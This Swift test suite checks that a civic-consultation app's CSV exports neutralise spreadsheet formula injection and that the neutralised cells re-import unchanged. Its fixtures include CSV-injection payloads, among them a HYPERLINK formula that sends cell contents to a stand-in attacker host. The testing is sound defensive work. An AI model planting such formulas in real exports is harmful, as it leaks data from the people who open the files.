import Foundation
import Logging
import SamenAnalytics
import SamenStore
import SamenTestSupport
@testable import SamenWeb
import Testing

/// One CSV writer for every export, with the formula guard (OWASP CSV injection), and the
/// Pol.is importer undoing the guard so an export re-imports unchanged.
@Suite("CSV exports")
struct CSVExportTests {
    static let dangerous = ["=HYPERLINK(\"https://example.org\",\"klik\")", "+31 6 1234", "-2+3", "@SUM(A1)", "\tverborgen", "\rterug",
                            "'=al een quote", "''@twee quotes", "=1+1;2"]
    static let harmless = ["-1", "+3", "-0.5", "1", "gewone tekst", "'quote maar geen formule", "e-mail", "", "'-1"]

    @Test("cells that start like a formula are prefixed with a quote; numbers and plain text are not")
    func guardCells() {
        for value in Self.dangerous {
            let cell = CSVWriter.cell(value)
            let unquoted = cell.hasPrefix("\"") ? String(cell.dropFirst()) : cell
            #expect(unquoted.hasPrefix("'"), "\(value.debugDescription) → \(cell.debugDescription)")
        }
        for value in Self.harmless {
            #expect(CSVWriter.cell(value) == value, "\(value.debugDescription) stays as it is")
        }
        #expect(CSVWriter.cell("a,b") == "\"a,b\"" && CSVWriter.cell("a\"b") == "\"a\"\"b\"" && CSVWriter.cell("a;b") == "\"a;b\"")
        #expect(CSVWriter.cell("=A1\r\n") == "\"'=A1\r\n\"")
    }

    @Test("the importer's unguard gives back exactly what was written")
    func unguardRoundTrip() {
        for value in Self.dangerous + Self.harmless {
            let written = CSVWriter.cell(value)
            let read = SimpleCSVReader.records(written + "\n").first?.first ?? ""
            #expect(CSVWriter.unguard(read) == value, "\(value.debugDescription)")
        }
    }

    @Test("a formula in a statement is guarded in comments.csv and comes back unchanged on re-import", arguments: TestDatabase.kinds)
    func polisExportGuard(kind: DatabaseKind) async throws {
        let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik hier\")"
        try await withConversationApp(kind: kind) { client, database in
            let ilse = Browser(client)
            let token = try await APITests.token(ilse, Demo.ilse)
            let base = "/api/v1/organisations/\(Demo.orgA)/conversations"
            func newConversation(_ question: String) async throws -> String {
                try #require(try await ilse.json(.post, base, token: token, body: #"{"question":"\#(question)"}"#).jsonObject["id"] as? String)
            }
            let first = try await newConversation("Formules")
            let comments = "timestamp,comment-id,author-id,moderated,comment-body\n1,0,0,1,\(CSVExportTests.rfc4180(formula))\n2,1,0,-1,@SUM(1)\n"
            let votes = "timestamp,comment-id,voter-id,vote\n10,0,1,1\n11,1,1,-1\n12,0,2,-1\n"
            let imported = try await ilse.json(.post, "\(base)/\(first)/import", token: token, body: """
                {"comments_csv": \(ConversationAPITests.quoted(comments)), "votes_csv": \(ConversationAPITests.quoted(votes))}
                """)
            #expect(imported.status == .created)

            let download = try await ilse.get("/o/\(Demo.orgA)/conversations/\(first)/export/comments.csv")
            #expect(download.status == .ok && download.headers[.contentType]?.hasPrefix("text/csv") == true)
            let records = SimpleCSVReader.records(download.text)
            let bodies = records.dropFirst().compactMap(\.last)
            #expect(bodies.contains("'" + formula), "the formula is written as text: \(bodies)")
            #expect(bodies.contains("'@SUM(1)"))
            #expect(!bodies.contains(where: { $0.hasPrefix("=") || $0.hasPrefix("@") }))
            let moderated = records.dropFirst().compactMap { $0.count > 6 ? $0[6] : nil }
            #expect(moderated.contains("-1"), "numbers stay numbers")
            let votesFile = try await ilse.get("/o/\(Demo.orgA)/conversations/\(first)/export/votes.csv").text
            #expect(votesFile.contains(",-1\n"))

            // Re-import the export: every statement reads as it was written.
            let export = try await ilse.json(.get, "\(base)/\(first)/export", token: token).jsonObject
            let second = try await newConversation("Formules terug")
            let again = try await ilse.json(.post, "\(base)/\(second)/import", token: token, body: """
                {"comments_csv": \(ConversationAPITests.quoted(try #require(export["comments.csv"] as? String))),
                 "votes_csv": \(ConversationAPITests.quoted(try #require(export["votes.csv"] as? String)))}
                """)
            #expect(again.status == .created)
            let organisation = try #require(try await OrganisationStore(database: database).all().first { $0.slug == Demo.orgA })
            let stored = try await ConversationStore(database: database).statements(organisationID: organisation.id, conversationID: second)
            #expect(stored.map(\.body).sorted() == [formula, "@SUM(1)"].sorted())
        }
    }

    static func rfc4180(_ text: String) -> String { "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    /// Where CSV is produced: a `text/csv` response or RFC 4180 quote doubling. Only the writer may.
    @Test("no CSV is produced outside the one writer")
    func oneWriter() throws {
        let files = FileManager.default.enumerator(at: GuardTests.sources, includingPropertiesForKeys: nil)?.compactMap { $0 as? URL } ?? []
        var offenders: [String] = []
        var scanned = 0
        for file in files where file.pathExtension == "swift" && file.lastPathComponent != "CSVWriter.swift" {
            scanned += 1
            let lines = try String(contentsOf: file, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false)
            for (number, line) in lines.enumerated() {
                // A media type named in metadata (the open-data package's `mediatype`) describes a file; it does not make one.
                let namesMediaType = line.lowercased().contains("mediatype\": \"text/csv")
                let producesCSV = (line.contains("text/csv") && !line.contains("request.headers") && !namesMediaType
                                   && !line.trimmingCharacters(in: .whitespaces).hasPrefix("///"))
                    || line.contains(#"with: "\"\"""#) || line.contains("joined(separator: \",\") + \"\\n\"")
                if producesCSV { offenders.append("\(file.lastPathComponent):\(number + 1)") }
            }
        }
        #expect(scanned > 100, "the scan reads the sources")
        #expect(offenders == [], "CSV made outside CSVWriter: \(offenders)")
    }
}
